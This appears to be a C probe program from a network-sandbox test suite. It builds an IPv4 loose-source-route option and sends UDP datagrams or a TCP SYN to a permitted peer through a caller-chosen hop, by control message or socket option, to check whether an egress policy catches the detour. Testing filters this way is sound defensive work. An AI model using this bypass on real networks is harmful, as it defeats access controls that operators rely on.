/* Source routing: a datagram or connection addressed to a peer the policy
 * allows, steered through a host the program names. An IPv4 loose source
 * route (LSRR) makes the kernel send the packet to its first hop, with the
 * checked peer left in the option; nothing that checked the address sees
 * it. One attack per run; the answer ("ok" or "errno=NAME") is the last
 * token written.
 *
 *   udp-cmsg HOP IP PORT    sendmsg "srr-leak" to IP:PORT on a UDP socket,
 *                           with an IP_RETOPTS control message routing it
 *                           through HOP
 *   udp-ttl HOP IP PORT     the same send with an IP_TTL control message
 *                           instead (HOP unused): an ordinary one
 *   udp-sticky HOP IP PORT  the same route set on the socket (setsockopt
 *                           IP_OPTIONS), then sendto IP:PORT
 *   tcp-sticky HOP IP PORT  the route set on a TCP socket, then a
 *                           non-blocking connect to IP:PORT (EINPROGRESS
 *                           is "ok": the SYN is on its way to HOP)
 */
#include "probe.h"
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <unistd.h>

/* LSRR through HOP to IP, padded with an end-of-options byte. */
static size_t route(unsigned char *opt, const char *hop, const char *ip)
{
    opt[0] = 1; /* no-op, so the option is 4-aligned */
    opt[1] = 0x83;
    opt[2] = 11;
    opt[3] = 4;
    inet_pton(AF_INET, hop, opt + 4);
    inet_pton(AF_INET, ip, opt + 8);
    return 12;
}

int main(int argc, char **argv)
{
    if (argc < 5)
        return 2;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[4]))};
    inet_pton(AF_INET, argv[3], &a.sin_addr);
    unsigned char opt[40];
    size_t len = route(opt, argv[2], argv[3]);
    if (!strcmp(argv[1], "udp-cmsg") || !strcmp(argv[1], "udp-ttl")) {
        int ttl = !strcmp(argv[1], "udp-ttl");
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        char control[CMSG_SPACE(40)];
        memset(control, 0, sizeof control);
        struct iovec v = {"srr-leak", 8};
        struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = CMSG_SPACE(len)};
        struct cmsghdr *c = CMSG_FIRSTHDR(&m);
        int hops = 9;
        if (ttl)
            len = sizeof hops;
        m.msg_controllen = CMSG_SPACE(len);
        c->cmsg_level = IPPROTO_IP;
        c->cmsg_type = ttl ? IP_TTL : IP_RETOPTS;
        c->cmsg_len = CMSG_LEN(len);
        memcpy(CMSG_DATA(c), ttl ? (void *)&hops : (void *)opt, len);
        return answer((int)sendmsg(s, &m, 0));
    }
    if (!strcmp(argv[1], "udp-sticky")) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        if (setsockopt(s, IPPROTO_IP, IP_OPTIONS, opt, (socklen_t)len) < 0)
            return answer(-1);
        return answer((int)sendto(s, "srr-leak", 8, 0, (struct sockaddr *)&a, sizeof a));
    }
    if (!strcmp(argv[1], "tcp-sticky")) {
        int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (setsockopt(s, IPPROTO_IP, IP_OPTIONS, opt, (socklen_t)len) < 0)
            return answer(-1);
        int r = connect(s, (struct sockaddr *)&a, sizeof a);
        if (r < 0 && errno == EINPROGRESS)
            r = 0;
        answer(r);
        fflush(stdout);
        usleep(200000); /* the SYN and its retransmission leave meanwhile */
        return 0;
    }
    return 2;
}
